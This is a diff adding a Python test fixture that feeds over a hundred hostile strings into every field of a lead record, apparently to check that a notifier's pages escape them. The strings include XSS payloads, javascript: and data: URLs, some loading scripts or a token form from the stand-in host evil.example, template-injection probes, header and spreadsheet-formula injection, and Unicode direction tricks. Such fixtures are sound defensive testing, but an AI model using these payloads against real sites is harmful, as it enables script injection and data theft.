@@ -1,0 +1,206 @@
+"""Texts that strangers type to make a page do something: each stands in a lead's fields."""
+
+from collections.abc import Iterator
+
+from notifier.core.rows import Json
+
+MARKER = "pwned"
+
+SCRIPTS = (
+    "<script>window.pwned=1</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
+    "</script><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "</textarea><script>window.pwned=1</script>",
+    "</select><img src=x onerror=window.pwned=1>",
+    "</option></select><script>window.pwned=1</script>",
+    "--><script>window.pwned=1</script><!--",
+    "<!--<img src='--><img src=x onerror=window.pwned=1//'>",
+    "]]><script>window.pwned=1</script>",
+    "<script type=module>import('//evil.example/x.js')</script>",
+    "<script\x0csrc=//evil.example/x.js></script>",
+    "<script/src=//evil.example/x.js></script>",
+    "<<script>window.pwned=1;//<</script>",
+    "\x3cscript\x3ewindow.pwned=1\x3c/script\x3e",
+    "＜script＞window.pwned=1＜/script＞",
+    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
+    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
+    "<template><script>window.pwned=1</script></template>",
+)
+HANDLERS = (
+    "<img src=x onerror=window.pwned=1>",
+    "<img src=x onerror='window.pwned=1'",
+    '"><img src=x onerror=window.pwned=1>',
+    "'><img src=x onerror=window.pwned=1>",
+    '" onmouseover="window.pwned=1',
+    "' onfocus='window.pwned=1' autofocus='",
+    "` onclick=`window.pwned=1`",
+    " onload=window.pwned=1 ",
+    "<body onload=window.pwned=1>",
+    "<svg onload=window.pwned=1>",
+    "<details open ontoggle=window.pwned=1>",
+    "<video><source onerror=window.pwned=1></video>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<marquee onstart=window.pwned=1>x</marquee>",
+    "<object data=x onerror=window.pwned=1></object>",
+    "<img/src='x'/onerror=window.pwned=1>",
+    "<img src=x:alert(1) onerror=eval(src)>",
+    "<xss id=x tabindex=1 onactivate=window.pwned=1></xss>",
+    "<a onpointerenter=window.pwned=1>x</a>",
+    "<form><button formaction=javascript:window.pwned=1>x",
+)
+ADDRESSES = (
+    "javascript:window.pwned=1",
+    "JaVaScRiPt:window.pwned=1",
+    "java\tscript:window.pwned=1",
+    "java\nscript:window.pwned=1",
+    " javascript:window.pwned=1",
+    "\x01javascript:window.pwned=1",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>window.pwned=1</script>",
+    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+    "http://evil.example/?<script>",
+    "//evil.example/x",
+    "https://evil.example@127.0.0.1/",
+    "file:///etc/passwd",
+    "mailto:a@b.c?body=<script>",
+    "tel:+1234567890123",
+    "<a href=javascript:window.pwned=1>x</a>",
+    "<iframe src=javascript:window.pwned=1></iframe>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<form action=//evil.example><input name=token></form>",
+    "<embed src=//evil.example/x.swf>",
+)
+STYLES = (
+    "<style>*{display:none}</style>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<p style=position:fixed;inset:0;background:red>x</p>",
+    '" style="position:fixed;inset:0',
+    "<div style='background:url(//evil.example/x)'>",
+    "expression(window.pwned=1)",
+    "</style><script>window.pwned=1</script>",
+    "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
+    "url(javascript:window.pwned=1)",
+    "\\3c script\\3e",
+)
+PICTURES = (
+    "<svg><script>window.pwned=1</script></svg>",
+    "<svg><a xlink:href=javascript:window.pwned=1><text>x</text></a></svg>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x></svg>",
+    "<svg><foreignObject><body onload=window.pwned=1></foreignObject></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1>#x'/></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
+    "<math href=javascript:window.pwned=1>x</math>",
+    "<img src=//evil.example/pixel.png>",
+    "<picture><source srcset=//evil.example/x></picture>",
+    "<image src=x onerror=window.pwned=1>",
+)
+TEMPLATES = (
+    "{{ 7*7 }}",
+    "{{ config }}",
+    "{{ ''.__class__.__mro__ }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
+    "{# hidden #}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "%(x)s %s {0} {x}",
+)
+DIRECTIONS = (
+    "\u202egnp.exe\u202c",
+    "\u202dabc\u202c",
+    "\u2066a\u2069b",
+    "\u2067abc",
+    "\u200f\u200eabc",
+    "\u061cabc",
+    "ab\u202ecd\u2066ef\u202cgh",
+    "شكرا \u202e<script>\u202c abc",
+    "a" + "\u0301" * 60,
+    "Z̸̢͖̪͇͗̃a̵̝̞͉͛l̵̠̓g̶̭͑o̶͚͑" * 8,
+    "\ufeff\u200b\u2060x",
+    "\U000e0041\U000e0042tag",
+)
+BYTES = (
+    "nul\x00byte",
+    "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
+    "\x1b[31mred\x1b[0m",
+    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
+    "bell\x07 back\x08space",
+    "cr\rlf\nnel\x85ls\u2028ps\u2029x",
+    "\ud800 lone",
+    "\ufffe\uffff",
+    "\x7f\x80\x9f",
+    "tab\ttab\x0b\x0c",
+    "set-cookie: a=b\r\nlocation: //evil.example\r\n\r\n<script>",
+    '=HYPERLINK("http://evil.example")',
+    "=1+1",
+    "@SUM(1)",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+)
+LONG = (
+    "x" * 40_000,
+    "<b>" * 13_000,
+    "😀" * 10_000,
+    "word " * 8_000,
+    "\u202e" * 1_000 + "x",
+    "ﷺ" * 500,
+    "'\"" * 5_000,
+    "&" * 10_000,
+    "M" * 300,
+    "http://" + "a" * 3_000 + ".example/",
+)
+CORPUS = (
+    *SCRIPTS,
+    *HANDLERS,
+    *ADDRESSES,
+    *STYLES,
+    *PICTURES,
+    *TEMPLATES,
+    *DIRECTIONS,
+    *BYTES,
+    *LONG,
+)
+assert len(set(CORPUS)) >= 100
+
+
+def hostile_rows() -> Iterator[dict[str, Json]]:
+    """Yield a row of the listing for each text, which stands in every one of its fields."""
+    for number, text in enumerate(CORPUS):
+        at = f"2026-03-02T{number // 60 % 24:02}:{number % 60:02}:00.000Z"
+        yield {
+            "_id": f"{number:03}{text}"[:150],
+            "uuid": text,
+            "status": text,
+            "_agentAssigned": {"_id": text, "name": text},
+            "lastMessage": {"at": at, "by": text, "text": text},
+            "profile": {
+                "notes": [{"_id": text, "title": text, "description": text}],
+                "userDetails": {
+                    "name": text,
+                    "userProvidedName": text,
+                    "city": text,
+                    "country": text,
+                    "gender": text,
+                    "picture": text,
+                    "contact": {"email": text, "phone": {"prefix": text, "number": text}},
+                    "tags": [text, f"{text}2"],
+                    "attributes": [
+                        {"key": text, "value": text},
+                        {"key": "link", "value": text},
+                    ],
+                },
+            },
+            "websiteVisits": text,
+            "lastSeenAt": text,
+            "createdAt": at,
+            "updatedAt": at,
+        }
